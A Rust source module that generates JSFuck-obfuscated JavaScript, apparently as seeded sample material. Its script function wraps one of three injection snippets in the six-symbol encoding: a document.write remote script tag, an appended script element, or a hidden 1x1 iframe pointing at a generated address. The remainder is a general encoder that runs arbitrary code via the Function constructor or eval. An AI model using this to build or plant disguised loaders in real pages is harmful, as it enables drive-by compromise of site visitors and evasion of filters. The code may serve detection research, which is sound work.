//! Code without letters and digits (JSFuck): all of it is picked from the texts of booleans, numbers, lists and functions.

use super::seed::Seed;
use std::collections::BTreeMap;

/// A script of six symbols.
pub(crate) fn script(seed: &mut Seed) -> String {
    let address = seed.address();
    let short = seed.pick(&[
        "document.write('<script src=\"URL\"></script>')",
        "var s=document.createElement('script');s.src='URL';document.body.appendChild(s)",
        "document.write('<iframe src=URL width=1 height=1></iframe>')",
    ]);
    written(seed, &short.replace("URL", &address))
}

/// The same for any code.
pub(crate) fn written(seed: &mut Seed, code: &str) -> String {
    let symbols = Symbols::new(seed);
    let method = symbols.method.clone();
    let text = symbols.text(code);
    let constructor = symbols.text("constructor");
    let run = format!("[][{method}][{constructor}]");
    if seed.flip() {
        format!("{run}({text})()")
    } else {
        let eval = symbols.text("return eval");
        format!("{run}({eval})()({text})")
    }
}

struct Symbols {
    known: BTreeMap<char, String>,
    /// The name of a method of lists, in symbols.
    method: String,
    yes: &'static str,
    zero: &'static str,
}

impl Symbols {
    fn new(seed: &mut Seed) -> Self {
        let yes = seed.pick(&["!![]", "!+[]", "!!{}"]);
        let zero = seed.pick(&["+[]", "+![]", "+!{}"]);
        let mut symbols = Self { known: BTreeMap::new(), method: String::new(), yes, zero };
        symbols.learn("false", "![]+[]");
        symbols.learn("true", "!![]+[]");
        symbols.learn("undefined", "[][[]]+[]");
        symbols.learn("NaN", "+{}+[]");
        symbols.learn("[object Object]", "{}+[]");
        let [none, one, three] = [0, 1, 3].map(|number| symbols.number(number));
        let huge = format!("+({one}+(!![]+[])[{three}]+[{one}]+[{none}]+[{none}]+[{none}])");
        symbols.learn("Infinity", &format!("{huge}+[]"));
        let method = seed.pick(&["flat", "fill", "find", "filter"]);
        symbols.method = symbols.text(method);
        let function = format!("[][{}]+[]", symbols.method);
        symbols.learn(&format!("function {method}() {{ [native code] }}"), &function);
        let constructor = symbols.text("constructor");
        symbols.learn("function Number() { [native code] }", &format!("(+[])[{constructor}]+[]"));
        symbols.learn("function String() { [native code] }", &format!("([]+[])[{constructor}]+[]"));
        symbols.learn("function Boolean() { [native code] }", &format!("(![])[{constructor}]+[]"));
        symbols.learn("[object Array Iterator]", &format!("[][{}]()+[]", symbols.text("entries")));
        symbols.others(&constructor, method);
        symbols
    }

    /// Letters by other bases, and signs by percent codes.
    fn others(&mut self, constructor: &str, method: &str) {
        let to_string = self.text("toString");
        for at in 10..36_usize {
            let letter = char::from(b'a' + (at - 10) as u8);
            let (digits, base) = (self.number(at), self.number(36));
            self.known.entry(letter).or_insert_with(|| format!("(+({digits}))[{to_string}]({base})"));
        }
        let run = format!("[][{}][{constructor}]", self.method);
        let escape = self.text("return escape");
        let at = self.number("function".len());
        assert!(method.len() > 3, "its text has a blank after the word");
        self.known.insert('%', format!("({run}({escape})()([][{}]))[{at}]", self.method));
        let unescape = self.text("return unescape");
        for code in 32..127_u8 {
            if !self.known.contains_key(&char::from(code)) {
                let coded = self.text(&format!("%{code:02x}"));
                self.known.insert(char::from(code), format!("{run}({unescape})()({coded})"));
            }
        }
    }

    /// Makes known each letter of a text that an expression comes to.
    fn learn(&mut self, text: &str, expression: &str) {
        for (at, letter) in text.chars().enumerate() {
            let place = self.number(at);
            self.known.entry(letter).or_insert_with(|| format!("({expression})[{place}]"));
        }
    }

    /// A number, or the text of it where it has two digits: both stand for the same place.
    fn number(&self, number: usize) -> String {
        let digit = |digit: u8| match digit - b'0' {
            0 => self.zero.to_owned(),
            1 => format!("+{}", self.yes),
            count => vec![self.yes; usize::from(count)].join("+"),
        };
        let text = number.to_string();
        match text.as_bytes() {
            [one] => digit(*one),
            more => more.iter().map(|byte| format!("[{}]", digit(*byte))).collect::<Vec<_>>().join("+"),
        }
    }

    fn text(&self, text: &str) -> String {
        let one = |letter: char| match letter {
            '0'..='9' => format!("[{}]", self.number(letter as usize - '0' as usize)),
            _ => self.known.get(&letter).unwrap_or_else(|| panic!("no symbols for {letter:?}")).clone(),
        };
        let parts: Vec<String> = text.chars().map(one).collect();
        match text.starts_with(|c: char| c.is_ascii_digit()) {
            true => format!("[]+{}", parts.join("+")),
            false => parts.join("+"),
        }
    }
}
